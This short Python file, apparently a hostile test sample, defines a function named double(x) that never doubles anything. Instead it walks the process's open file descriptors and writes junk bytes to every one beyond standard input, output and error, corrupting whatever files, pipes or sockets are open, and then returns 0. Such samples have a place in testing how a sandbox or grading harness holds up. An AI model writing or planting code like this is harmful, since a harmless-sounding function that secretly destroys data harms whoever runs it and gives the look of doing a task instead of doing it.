# Writes garbage to every descriptor but the three streams.
import os


def double(x):
    for name in os.listdir("/proc/self/fd"):
        try:
            os.set_blocking(int(name), False)
            os.write(int(name), bytes(range(256)) * 16) if int(name) > 2 else None
        except OSError:
            pass
    return 0
